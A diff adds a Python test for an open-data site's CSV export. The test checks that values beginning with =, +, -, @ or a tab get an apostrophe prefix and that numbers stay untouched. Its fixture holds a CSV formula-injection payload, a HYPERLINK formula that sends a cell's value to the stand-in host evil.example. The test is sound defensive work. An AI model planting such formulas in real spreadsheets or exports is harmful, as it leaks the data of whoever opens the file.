@@ -308,3 +308,29 @@ def test_page_with_no_place(client):
     response = client.get("/donnees/")
     assert response.status_code == 200
     assert "0 lieux dans les fichiers" in " ".join(response.content.decode().split())
+
+
+def test_csv_text_cells_never_start_a_formula_and_numbers_stay_numbers(client, tmp_path):
+    from tests.opendata.test_roundtrip import frictionless_errors
+
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
+    full_place(
+        name=formula,
+        address="+33 rue du Calcul",
+        summary="-2+3 ateliers",
+        collected_by="@contact",
+        parent_organisation="\tTab",
+        latitude=48.1,
+        longitude=-1.68,
+    )
+    body, _response = download(client, CSV_URL)
+    (row,) = csv.DictReader(io.StringIO(body.decode("utf-8"), newline=""))
+    assert row["nom"] == "'" + formula
+    assert row["adresse"] == "'+33 rue du Calcul"
+    assert row["presentation_resume"] == "'-2+3 ateliers"
+    assert row["source"] == "'@contact"
+    assert row["structure_parente"] == "'\tTab"
+    assert row["commune"] == "Rennes"  # nothing added where nothing is needed
+    assert (row["latitude"], row["longitude"]) == ("48.1", "-1.68")  # typed: unchanged
+    assert row["telephone"].startswith("+33")  # patterned by the standard: unchanged
+    assert frictionless_errors(tmp_path, body) == ""
